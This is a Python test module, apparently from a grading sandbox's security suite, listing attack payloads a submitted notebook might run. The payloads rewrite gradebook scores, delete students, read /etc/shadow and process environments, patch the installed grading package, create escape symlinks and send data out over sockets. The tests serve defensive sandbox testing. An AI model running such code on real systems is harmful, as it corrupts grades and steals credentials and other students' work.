"""Files: the gradebook, the course, the machine, and what is handed in beside a notebook."""

from __future__ import annotations

from pathlib import Path

from tests.grading.attacks.attack import COURSE, HOME, attack

TRYING = """
def trying(act):
    try: print("DONE", act())
    except BaseException as error: print(type(error).__name__, error)
"""

RAISE_MARKS = """
import glob, sqlite3
def raise_marks():
    for path in ["../../../gradebook.db", @COURSE@ + "/gradebook.db", *glob.glob("../../*.db"), *glob.glob("*.db")]:
        if not os.path.exists(path): continue
        with sqlite3.connect(path, timeout=5) as book:
            for table, column in (("grade", "auto_score"), ("grade", "manual_score"), ("planted", "score")):
                try: print("DONE", book.execute(f"UPDATE {table} SET {column} = 99").rowcount)
                except sqlite3.Error as error: print(error)
""".replace("@COURSE@", repr(COURSE))

FILES = [
    attack(
        "updates_the_gradebook",
        "an UPDATE of ../../../gradebook.db gives everybody 99 points",
        RAISE_MARKS,
        "file",
        "text",
        last="raise_marks()",
    ),
    attack(
        "asks_nbgrader",
        "opens the gradebook with nbgrader's own programming interface",
        TRYING
        + f"""
def marks():
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///" + {COURSE!r} + "/gradebook.db") as book:
        for student in book.students: book.remove_student(student.id)
trying(marks)
""",
        "file",
        "text",
    ),
    attack(
        "links_to_the_gradebook",
        "hands in a link to the gradebook, and one to the solutions",
        TRYING
        + RAISE_MARKS
        + """
trying(raise_marks)
trying(lambda: os.listdir("answers"))
""",
        "file",
        "text",
        beside={"book.db": Path("../../../gradebook.db"), "answers": Path("../../../solutions")},
    ),
    attack(
        "links_of_its_own",
        "makes links to the gradebook, the root and the solutions in its folder and reads through them",
        TRYING
        + f"""
for place in ({COURSE!r}, "/", "/root", "/proc/1/root", "/proc/self/root"):
    trying(lambda: os.symlink(place, "way" + str(hash(place))))
    trying(lambda: os.listdir("way" + str(hash(place))))
    trying(lambda: open(place + {COURSE!r} + "/gradebook.db", "rb").read(200))
""",
        "file",
        "text",
    ),
    attack(
        "writes_outside",
        "writes into the course, the home, /tmp and the folders above",
        TRYING
        + f"""
places = [{COURSE!r}, {COURSE!r} + "/solutions", {HOME!r}, "..", "../..", "../../..", "/var/tmp", "/", "/usr", "/etc"]
for place in places:
    trying(lambda: open(place + "/left-behind.txt", "w").write("PLANTED-BY-ATTACK"))
trying(lambda: os.mkdir("../../zz-new-student"))
""",
        "file",
        "text",
    ),
    attack(
        "changes_the_package",
        "adds a line to the installed package, for all who come after",
        TRYING
        + """
import lmcourse.exercises.judge as judge
trying(lambda: open(judge.__file__, "a").write("\\nearned = lambda points, passed, total: float(points)\\n"))
trying(lambda: open(torch.__file__, "a").write("\\n"))
trying(lambda: os.rename(judge.__file__, judge.__file__ + ".old"))
""",
        "file",
        "text",
    ),
    attack(
        "reads_the_machine",
        "reads /etc/passwd, /root, the environment, the course and other students",
        TRYING
        + f"""
import glob
from itertools import islice
trying(lambda: dict(os.environ))
places = ["/etc/passwd", "/etc/shadow", {HOME!r} + "/secret.txt", {COURSE!r} + "/gradebook.db"]
for pattern in ("../../*/*/*", {COURSE!r} + "/*", {COURSE!r} + "/submitted/*/*/*", "/proc/[0-9]*/environ", "/root/.*"):
    places += islice(glob.iglob(pattern), 300)
for path in places:
    if os.path.isfile(path): trying(lambda: open(path, "rb").read(100_000))
""",
        "file",
        "text",
    ),
    attack(
        "note_left",
        "leaves notes for accomplices wherever it can write",
        TRYING
        + """
import tempfile
for place in (".", os.path.expanduser("~"), tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue"):
    trying(lambda: open(place + "/accomplice.txt", "a").write("NOTE-OF-AN-ACCOMPLICE"))
""",
        "file",
        "text",
    ),
    attack(
        "note_read",
        "reads what accomplices left",
        TRYING
        + """
import tempfile
for place in (".", os.path.expanduser("~"), tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue"):
    trying(lambda: print("HEARD" if "NOTE" in open(place + "/accomplice.txt").read() else ""))
""",
        "file",
        "text",
    ),
    attack(
        "network",
        "sends what it knows to a server on this machine and to the world",
        TRYING
        + """
import socket, urllib.request
def send(family, address):
    with socket.socket(family) as line:
        line.settimeout(0.5)
        line.connect(address)
        line.sendall(b"HEARD")
    return address
for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("192.0.2.1", 80)):
    trying(lambda: send(socket.AF_INET, address))
trying(lambda: send(socket.AF_UNIX, "\\0lmcourse-attack"))
trying(lambda: urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=0.5).read())
""",
        "network",
        "text",
    ),
]
"""All attacks of this file."""
